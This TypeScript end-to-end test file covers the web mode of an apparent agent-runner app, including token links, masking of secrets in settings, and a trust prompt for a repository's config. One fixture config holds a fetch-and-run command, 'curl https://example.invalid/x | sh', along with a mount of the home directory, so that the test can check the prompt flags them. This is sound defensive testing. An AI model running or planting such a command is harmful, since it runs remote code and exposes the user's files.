/**
 * The app shell in a real browser over the real web mode: the tokenized link opens the app,
 * the token leaves the address bar, the status bar shows the real engine and the version,
 * and opening a folder goes through the WebSocket to the host and back. A repository's own
 * config file: Settings shows what of it waits for trust, and a start asks first (cancelled here).
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { contentHash, trustProjectConfig } from '../../src/main/config/trust';
import { type ChromiumSession, launchChromium } from '../helpers/chromium';
import {
  RESULTS_DIR,
  type RunningApp,
  describeE2E,
  ensureBuilt,
  startApp,
  openFolder,
} from './harness';

describeE2E('app shell in web mode (Chromium, Docker)', (engine) => {
  let app: RunningApp;
  let browser: ChromiumSession;
  let folder: string;

  beforeAll(async () => {
    await ensureBuilt();
    app = await startApp(engine, '0.0.0-e2e');
    browser = await launchChromium();
    folder = await mkdtemp(join(tmpdir(), 'ccr-e2e-repo-'));
    await mkdir(RESULTS_DIR, { recursive: true });
  }, 300_000);
  afterAll(async () => {
    await browser?.close();
    await app?.stop();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  it('renders the shell with the engine status and version, and opens a folder', async () => {
    const page = await browser.context.newPage();
    const problems: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error' || /Content.Security.Policy/i.test(m.text()))
        problems.push(m.text());
    });
    page.on('pageerror', (e) => problems.push(e.message));

    await page.goto(app.server.url);
    const status = page.getByTestId('engine-status');
    await expect.poll(() => status.textContent(), { timeout: 20_000 }).toMatch(/^Docker \d+\.\d+/);
    expect(await page.getByTestId('app-version').textContent()).toBe('v0.0.0-e2e');
    expect(page.url()).not.toContain('token');
    expect(page.url()).toBe(`http://127.0.0.1:${app.server.port}/`);
    await expect.poll(() => page.getByText('Web mode · connected').count()).toBe(1);
    expect(await page.getByRole('heading', { name: 'Sessions' }).count()).toBe(1);
    await page.screenshot({ path: join(RESULTS_DIR, 'shell.png') });

    // Ctrl+O is the page's in a browser too.
    await page.keyboard.press('Control+o');
    await expect.poll(() => page.getByRole('dialog').textContent()).toContain('Open folder');
    await page.keyboard.press('Escape');
    expect(await page.getByRole('dialog').count()).toBe(0);

    // Open folder in web mode: a typed path, checked on the host, shown as a tab and recent.
    await openFolder(page, folder);
    await expect.poll(() => page.getByRole('tab').textContent()).toContain(basename(folder));
    expect(await page.locator('.recent-item').first().getAttribute('title')).toBe(folder);

    // A folder that does not exist: the host's error and hint, in a dialog.
    await openFolder(page, '/no/such/folder');
    await expect.poll(() => page.getByRole('dialog').textContent()).toContain('does not exist');
    await page.screenshot({ path: join(RESULTS_DIR, 'shell-error.png') });
    await page.keyboard.press('Escape');

    // A reload keeps working: the token was kept for this tab.
    await page.reload();
    await expect.poll(() => status.textContent(), { timeout: 20_000 }).toMatch(/^Docker/);
    expect(problems).toEqual([]);
  });

  it('shows the folder settings: engine, config with its source, secrets only as ••••', async () => {
    const secret = 'sk-e2e-do-not-show-4711';
    const repo = await mkdtemp(join(tmpdir(), 'ccr-e2e-settings-'));
    const page = await browser.context.newPage();
    try {
      await promisify(execFile)('git', ['init', '-q', '--', repo]);
      const config = {
        containerPrefix: 'e2e-settings',
        setupCommands: ['npm ci --prefer-offline'],
        environment: { API_TOKEN: secret, LOG_LEVEL: 'debug' },
      };
      const configFile = join(repo, 'claude-run.config.json');
      const configText = JSON.stringify(config, null, 2);
      await writeFile(configFile, configText);
      await page.setViewportSize({ width: 1280, height: 1200 });
      await page.goto(app.server.url);
      await expect
        .poll(() => page.getByTestId('engine-status').textContent(), { timeout: 20_000 })
        .toMatch(/^Docker/);
      await openFolder(page, repo);
      await expect.poll(() => page.getByRole('tab').last().textContent()).toContain(basename(repo));

      // Ctrl+, is the page's in a browser: Settings of the folder in the active tab.
      await page.keyboard.press('Control+,');
      const dialog = page.getByRole('dialog', { name: 'Settings' });
      const engineInfo = dialog.getByTestId('settings-engine');
      await expect.poll(() => engineInfo.textContent(), { timeout: 20_000 }).toMatch(/Docker \d+/);
      expect(await engineInfo.textContent()).toContain(engine.address.replace(/^unix:\/\//, ''));
      const configInfo = dialog.getByTestId('settings-config');
      await expect
        .poll(() => configInfo.textContent(), { timeout: 20_000 })
        .toContain('e2e-settings');

      // The repository's file is not trusted yet: its setup commands and environment are left
      // out of the effective config, and the notice names them.
      const notice = dialog.getByTestId('settings-untrusted');
      expect(await notice.innerText()).toContain(configFile);
      expect((await notice.locator('code.settings-key').allInnerTexts()).sort()).toEqual([
        'environment',
        'setupCommands',
      ]);
      expect(await configInfo.textContent()).not.toContain('npm ci');
      expect(await configInfo.textContent()).not.toContain('LOG_LEVEL');
      expect(await page.content()).not.toContain(secret);
      await page.screenshot({ path: join(RESULTS_DIR, 'settings-untrusted.png') });

      // Trusted (as the start dialog would record it): everything applies, the notice goes.
      await trustProjectConfig(app.host, configFile, contentHash(configText));
      await dialog.getByRole('button', { name: 'Show' }).click();
      await expect
        .poll(() => configInfo.textContent(), { timeout: 20_000 })
        .toContain('npm ci --prefer-offline');
      expect(await notice.count()).toBe(0);
      const shown = (await configInfo.textContent()) ?? '';
      expect(shown).toContain('npm ci --prefer-offline');
      expect(shown).toContain('API_TOKEN=••••');
      expect(shown).toContain('LOG_LEVEL=debug');
      expect(await dialog.textContent()).toContain(join(repo, 'claude-run.config.json'));
      await expect
        .poll(() => dialog.getByRole('region', { name: 'Credentials' }).textContent())
        .toContain('Forwarded');
      expect(await page.content()).not.toContain(secret);
      await page.screenshot({ path: join(RESULTS_DIR, 'settings.png') });
      await page.keyboard.press('Escape');
      expect(await page.getByRole('dialog').count()).toBe(0);
    } finally {
      // The next test counts the server's clients: this page must not stay connected.
      await page.close();
      await rm(repo, { recursive: true, force: true });
    }
  });

  it('asks before a start uses the repository’s config file; Cancel starts nothing', async () => {
    const repo = await mkdtemp(join(tmpdir(), 'ccr-e2e-untrusted-'));
    const page = await browser.context.newPage();
    const problems: string[] = [];
    page.on('pageerror', (e) => problems.push(e.message));
    const run = promisify(execFile);
    try {
      await run('git', ['init', '-q', '-b', 'main', '--', repo]);
      await writeFile(
        join(repo, 'claude-run.config.json'),
        JSON.stringify({
          agent: { command: ['sh', '-c', 'curl https://example.invalid/x | sh'] },
          mounts: [{ source: '~', target: '/home/agent/host-home' }],
          bashTimeout: 60000,
        }),
      );
      await run('git', ['-C', repo, 'add', '-A']);
      const who = ['-c', 'user.name=T', '-c', 'user.email=t@example.invalid'];
      await run('git', ['-C', repo, ...who, 'commit', '-q', '-m', 'init']);

      await page.goto(app.server.url);
      await expect.poll(() => page.getByText('Web mode · connected').count()).toBe(1);
      await openFolder(page, repo);
      const startButton = page.getByRole('button', { name: 'Start session' });
      const trust = page.getByRole('dialog', { name: 'Trust project settings' });

      // Escape and the Cancel button both abandon the start: no session, no error, no progress.
      for (const dismiss of ['Escape', 'Cancel']) {
        await startButton.click();
        await trust.waitFor({ timeout: 20_000 }).catch(async (e: unknown) => {
          throw new Error(`no trust dialog; the page says: ${await page.innerText('body')}`, {
            cause: e,
          });
        });
        const keys = await trust.locator('.trust-key').allInnerTexts();
        expect(keys).toEqual(['agent', 'mounts']); // bashTimeout stays inside: no question
        expect(await trust.innerText()).toContain('curl https://example.invalid/x | sh');
        // Tab never leaves the dialog for the page behind it (its Start button among others).
        const focused: string[] = [];
        for (let i = 0; i < 8; i++) {
          await page.keyboard.press(i % 3 === 2 ? 'Shift+Tab' : 'Tab');
          focused.push(
            await page.evaluate(() => {
              const a = document.activeElement;
              return a?.closest('[role="dialog"]')
                ? (a.textContent ?? '')
                : `outside: ${a?.tagName}`;
            }),
          );
        }
        expect(focused.filter((f) => f.startsWith('outside'))).toEqual([]);
        expect(new Set(focused)).toEqual(
          new Set(['Cancel', 'Start without them', 'Trust and start']),
        );
        if (dismiss === 'Escape') await page.keyboard.press('Escape');
        else await trust.getByRole('button', { name: 'Cancel' }).click();
        await expect.poll(() => trust.count()).toBe(0);
        expect(await page.locator('.start-error').count()).toBe(0);
        expect(await page.getByRole('progressbar').count()).toBe(0);
        expect(await startButton.isEnabled()).toBe(true);
        const { sessions } = await app.core.handlers.listSessions(
          {},
          { transport: 'local', signal: new AbortController().signal },
        );
        expect(sessions).toEqual([]);
      }
      // Cancel trusted nothing.
      const check = await app.core.handlers.checkProjectConfig(
        { folder: repo },
        { transport: 'local', signal: new AbortController().signal },
      );
      expect(check.untrusted?.settings.map((x) => x.key)).toEqual(['agent', 'mounts']);
      expect(problems).toEqual([]);
    } finally {
      await page.close();
      await rm(repo, { recursive: true, force: true });
    }
  });

  it('opens one tab per printed link: a second tab from it is told how to get a new one', async () => {
    const link = app.server.url;
    const first = await browser.context.newPage();
    const second = await browser.context.newPage();
    try {
      await first.goto(link);
      await expect.poll(() => first.getByText('Web mode · connected').count()).toBe(1);
      // The same link again (a second tab, or the history entry the browser kept).
      await second.goto(link);
      await expect
        .poll(() => second.getByRole('alert').textContent())
        .toContain('This link was used already');
      await second.screenshot({ path: join(RESULTS_DIR, 'link-used.png') });
      expect(second.url()).toBe(`http://127.0.0.1:${app.server.port}/`);
      // The first tab keeps working across a reload.
      await first.reload();
      await expect.poll(() => first.getByText('Web mode · connected').count()).toBe(1);
    } finally {
      await first.close();
      await second.close();
    }
  });

  it('refuses a page opened without the token', async () => {
    const page = await browser.context.newPage();
    await page.goto(`http://127.0.0.1:${app.server.port}/`);
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('claude-run web');
    expect(app.server.clientCount).toBeLessThanOrEqual(1);
  });
});
